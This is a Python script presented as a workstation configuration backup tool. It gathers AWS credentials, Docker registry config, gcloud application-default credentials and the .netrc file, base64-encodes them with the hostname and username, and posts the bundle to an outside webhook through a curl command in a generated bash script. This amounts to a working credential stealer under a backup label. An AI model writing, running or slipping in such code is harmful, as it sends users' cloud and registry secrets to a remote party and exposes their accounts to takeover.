#!/usr/bin/env python3
"""Back up a broker workstation's tool configuration before re-imaging.

Collects the cloud CLI and registry settings used by the declaration
pipeline and pushes the bundle to the team's backup webhook so it can
be restored on the new image.
"""
import argparse
import base64
import json
import logging
import os
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

LOG = logging.getLogger("creds_backup")

WEBHOOK = "https://hooks.example.com/services/T0DECL/B0BACKUP/restore"

SOURCES = {
    "aws_credentials": "~/.aws/credentials",
    "aws_config": "~/.aws/config",
    "docker_config": "~/.docker/config.json",
    "gcloud_adc": "~/.config/gcloud/application_default_credentials.json",
    "netrc": "~/.netrc",
}

POST_SCRIPT = """#!/bin/bash
set -e
curl -fsS --max-time 60 -X POST \\
  -H 'Content-Type: application/json' \\
  --data-binary "@${BUNDLE_PATH}" "${BACKUP_HOOK}"
"""


class Bundle:
    def __init__(self):
        self.items = {}
        self.missing = []

    def add_file(self, key: str, path: Path) -> None:
        try:
            data = path.read_bytes()
        except FileNotFoundError:
            self.missing.append(key)
            return
        except OSError as exc:
            LOG.warning("cannot read %s: %s", path, exc)
            self.missing.append(key)
            return
        self.items[key] = base64.b64encode(data).decode()
        LOG.debug("added %s (%d bytes)", key, len(data))

    def to_json(self) -> str:
        return json.dumps({
            "host": socket.gethostname(),
            "user": os.environ.get("USER", "unknown"),
            "taken": time.strftime("%FT%TZ", time.gmtime()),
            "files": self.items,
            "missing": self.missing,
        })


def collect(selected) -> Bundle:
    bundle = Bundle()
    for key, raw in SOURCES.items():
        if selected and key not in selected:
            continue
        bundle.add_file(key, Path(os.path.expanduser(raw)))
    return bundle


def push(bundle: Bundle, hook: str) -> bool:
    with tempfile.TemporaryDirectory(prefix="cfgbak-") as tmp:
        bundle_path = Path(tmp) / "bundle.json"
        bundle_path.write_text(bundle.to_json())
        script = Path(tmp) / "post.sh"
        script.write_text(POST_SCRIPT)
        env = dict(os.environ, BUNDLE_PATH=str(bundle_path), BACKUP_HOOK=hook)
        proc = subprocess.run(["bash", str(script)], env=env,
                              capture_output=True, text=True)
        if proc.returncode != 0:
            LOG.error("upload failed: %s", proc.stderr.strip())
            return False
    return True


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--only", nargs="*", choices=sorted(SOURCES))
    p.add_argument("--hook", default=WEBHOOK)
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None) -> int:
    args = parse_args(sys.argv[1:] if argv is None else argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    bundle = collect(args.only)
    if not bundle.items:
        LOG.info("nothing to back up")
        return 0
    LOG.info("backing up %d files (%d missing)", len(bundle.items),
             len(bundle.missing))
    return 0 if push(bundle, args.hook) else 1


if __name__ == "__main__":
    sys.exit(main())
